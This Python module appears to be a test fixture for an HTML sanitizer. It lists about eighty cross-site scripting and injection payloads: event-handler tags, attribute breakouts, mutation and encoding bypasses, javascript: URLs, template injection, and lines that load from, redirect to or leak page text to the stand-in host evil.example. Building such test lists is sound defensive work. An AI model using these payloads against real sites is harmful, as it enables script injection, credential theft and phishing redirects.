"""Texts that want to be more than text on a page: to run, to be markup, to call somebody outside.

Whatever of them becomes an element carries the attribute ``data-ran`` or is called ``x-ran``;
whatever runs opens a dialog; whatever is fetched is fetched from :data:`OUTSIDE`.
"""

from __future__ import annotations

OUTSIDE = "evil.example"
_RUN = "alert(1)"

PAYLOADS: tuple[str, ...] = (
    # As an element of its own.
    f"<script data-ran>{_RUN}</script>",
    f"<ScRiPt data-ran src=//{OUTSIDE}/x.js></sCrIpT>",
    f"<script data-ran src=data:text/javascript,{_RUN}></script>",
    f"<script/x data-ran>{_RUN}</script/x>",
    f"<<script data-ran>{_RUN}//<</script>",
    f"<img data-ran src=x onerror={_RUN}>",
    f"<img/data-ran/src='x'/onerror='{_RUN}'>",
    f"<image data-ran src=x onerror={_RUN}>",
    f"<svg data-ran onload={_RUN}>",
    f"<svg data-ran><script>{_RUN}</script></svg>",
    "<svg data-ran><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    f"<svg data-ran><use href=//{OUTSIDE}/x.svg#x /></svg>",
    f"<svg data-ran><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "<math data-ran href=javascript:alert(1)>x</math>",
    "<math data-ran><maction actiontype=statusline xlink:href=javascript:alert(1)>x</math>",
    "<iframe data-ran src=javascript:alert(1)></iframe>",
    f"<iframe data-ran srcdoc='&lt;script&gt;{_RUN}&lt;/script&gt;'></iframe>",
    f"<iframe data-ran src=//{OUTSIDE}/></iframe>",
    f"<object data-ran data=//{OUTSIDE}/x.swf></object>",
    f"<embed data-ran src=//{OUTSIDE}/x.swf>",
    f"<video data-ran><source src=x onerror={_RUN}></video>",
    f"<audio data-ran src=x onerror={_RUN}></audio>",
    f"<video data-ran poster=//{OUTSIDE}/seen.png></video>",
    f"<details data-ran open ontoggle={_RUN}>x</details>",
    f"<input data-ran autofocus onfocus={_RUN}>",
    f"<select data-ran autofocus onfocus={_RUN}></select>",
    f"<body data-ran onload={_RUN}>",
    f"<marquee data-ran onstart={_RUN}>x</marquee>",
    f"<x-ran onanimationstart={_RUN} style='animation:x 1s'>x</x-ran>",
    f"<style data-ran>@import '//{OUTSIDE}/x.css';</style>",
    f"<link data-ran rel=stylesheet href=//{OUTSIDE}/x.css>",
    f"<link data-ran rel=prefetch href=//{OUTSIDE}/seen>",
    f"<div data-ran style='background:url(//{OUTSIDE}/seen.png)'>x</div>",
    "<div data-ran style='width:expression(alert(1))'>x</div>",
    f"<img data-ran src=//{OUTSIDE}/seen.png?who=clerk>",
    f"<table data-ran background=//{OUTSIDE}/seen.png></table>",
    # As something about the whole page.
    f"<meta data-ran http-equiv=refresh content='0;url=//{OUTSIDE}/'>",
    f"<base data-ran href=//{OUTSIDE}/>",
    f"<form data-ran action=//{OUTSIDE}/ id=f><button>继续</button></form>",
    f"<button data-ran form=f formaction=//{OUTSIDE}/>登录</button>",
    "<x-ran id=live>x</x-ran><a id=wrong name=csrf data-ran>x</a>",
    # Out of what they stand in.
    f'"><img data-ran src=x onerror={_RUN}>',
    f"'><img data-ran src=x onerror={_RUN}>",
    f"`><img data-ran src=x onerror={_RUN}>",
    f'" data-ran autofocus onfocus={_RUN} x="',
    f"' data-ran autofocus onfocus={_RUN} x='",
    f" data-ran onmouseover={_RUN} ",
    f"</textarea><img data-ran src=x onerror={_RUN}>",
    f"</title><img data-ran src=x onerror={_RUN}>",
    f"</option></select><img data-ran src=x onerror={_RUN}>",
    f"</script><img data-ran src=x onerror={_RUN}>",
    f"</style><img data-ran src=x onerror={_RUN}>",
    f"--><img data-ran src=x onerror={_RUN}><!--",
    f"]]><img data-ran src=x onerror={_RUN}>",
    "';alert(1)//\\';alert(1)//\";alert(1)//--></script><x-ran>",
    "\\u003cx-ran\\u003e\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    f"<img data-ran src='//{OUTSIDE}/?text=",
    f"<a data-ran href='//{OUTSIDE}/?text=",
    # Changed by whoever reads it twice.
    f"<noscript><p title='</noscript><img data-ran src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img data-ran src=x onerror={_RUN}>-->",
    f"<svg></p><style><a id='</style><img data-ran src=x onerror={_RUN}>'>",
    f"<template data-ran><img src=x onerror={_RUN}></template>",
    f"&lt;img data-ran src=x onerror={_RUN}&gt;",
    f"&#60;img data-ran src=x onerror={_RUN}&#62;",
    f"%3Cimg%20data-ran%20src=x%20onerror={_RUN}%3E",
    f"+ADw-script data-ran+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cimg data-ran src=x onerror={_RUN}\uff1e",
    f"\u00bcscript data-ran\u00be{_RUN}\u00bc/script\u00be",
    f"<img\u3000data-ran src=x onerror={_RUN}>",
    f"<img data-ran src=x one\u017ferror={_RUN} \u212aey>",
    # As an address.
    "javascript:alert(1)",
    " JaVaScRiPt\u3000:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script data-ran>alert(1)</script>",
    "vbscript:msgbox(1)",
    f"//{OUTSIDE}/login",
    f"/\\{OUTSIDE}/login",
    f"https://office.example@{OUTSIDE}/",
    # As what other places make of text.
    "{{ 7 * 7 }}{% for x in () %}<x-ran>{% endfor %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[看这里](javascript:alert(1)) ![](//evil.example/seen.png)",
    "<javascript:alert(1)> <//evil.example/seen.png>",
)
#: All of them in one text; the first ends whatever text may stand in.
ALL = " ".join((PAYLOADS[41], *PAYLOADS))
